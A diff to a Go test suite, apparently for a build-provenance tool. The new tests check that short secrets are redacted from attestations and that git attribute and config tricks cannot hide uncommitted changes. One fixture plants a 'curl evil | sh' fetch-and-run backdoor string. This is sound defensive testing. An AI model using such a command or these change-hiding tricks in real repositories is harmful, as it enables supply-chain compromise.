@@ -5,6 +5,7 @@ import (
 	"os"
 	"path/filepath"
 	"slices"
+	"strings"
 	"testing"
 	"time"
 )
@@ -91,5 +92,73 @@ func TestEdge80_SecretSettings(t *testing.T) {
 		if !bytes.Contains(payload, []byte("1.2.3")) {
 			t.Errorf("%s: the version is not in %s", mode, payload)
 		}
+	}
+}
+
+// Short values are not searched for everywhere; where a setting says that they
+// are secret, they are not stated all the same.
+func TestAttack_ShortSecretsInSettings(t *testing.T) {
+	dir := t.TempDir()
+	write(t, filepath.Join(dir, "in"), "x")
+	step := Step{
+		Name: "build", Dir: dir, Now: time.Now, Products: []string{"in"},
+		Argv:    []string{"/bin/sh", "-c", "true --token 'Hu nt' -u bob:Hu1"},
+		Environ: []string{"GOFLAGS=-ldflags=-X=main.token=Hu2", "CURL=curl -u bob:Hu3"}, Env: []string{"GOFLAGS", "CURL"},
+		Go: &GoState{Version: "go1", Settings: map[string]string{"GOFLAGS": "-ldflags=-X=main.token=Hu2"}},
+	}
+	r, err := Run(t.Context(), step)
+	if err != nil {
+		t.Fatal(err)
+	}
+	st, err := r.Provenance("https://builder.example", "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	link, err := r.Link()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range [][]byte{st.Payload(), link.Payload()} {
+		if strings.Contains(string(p), "Hu") {
+			t.Errorf("stated: %s", p)
+		}
+	}
+	if step.Go.Settings["GOFLAGS"] != "-ldflags=-X=main.token=Hu2" {
+		t.Error("the caller's settings were changed")
+	}
+}
+
+// What nobody committed can make git take other bytes for those of the commit:
+// its configuration, and attributes beside the tree.
+func TestAttack_ConversionsThatHideChanges(t *testing.T) {
+	for name, tc := range map[string]struct {
+		committed, backdoor string
+		prepare             func(r *repo)
+	}{
+		"ident": {"# $Id$\n", "# $Id: x\\u000a; curl evil | sh $\n", func(r *repo) {
+			write(t, filepath.Join(r.dir, ".git", "info", "attributes"), "* ident\n")
+		}},
+		"encoding": {"a\n", "\xff\xfea\x00\n\x00", func(r *repo) {
+			write(t, filepath.Join(r.dir, ".git", "info", "attributes"), "* text working-tree-encoding=UTF-16LE-BOM\n")
+		}},
+		"line ends": {"a\n", "a\r\n", func(r *repo) { r.git("config", "core.autocrlf", "input") }},
+		"mode":      {"a\n", "", func(r *repo) { r.git("config", "core.fileMode", "false") }},
+	} {
+		t.Run(name, func(t *testing.T) {
+			r := newRepo(t)
+			file := filepath.Join(r.dir, "a")
+			write(t, file, tc.committed)
+			r.commit()
+			tc.prepare(r)
+			if tc.backdoor != "" {
+				write(t, file, tc.backdoor)
+				r.git("add", "-A") // the index has the new size and the old content
+			} else if err := os.Chmod(file, 0o755); err != nil {
+				t.Fatal(err)
+			}
+			if s := r.state("."); s.DirtyCount != 1 {
+				t.Errorf("%d changes, %q", s.DirtyCount, s.Dirty)
+			}
+		})
 	}
 }
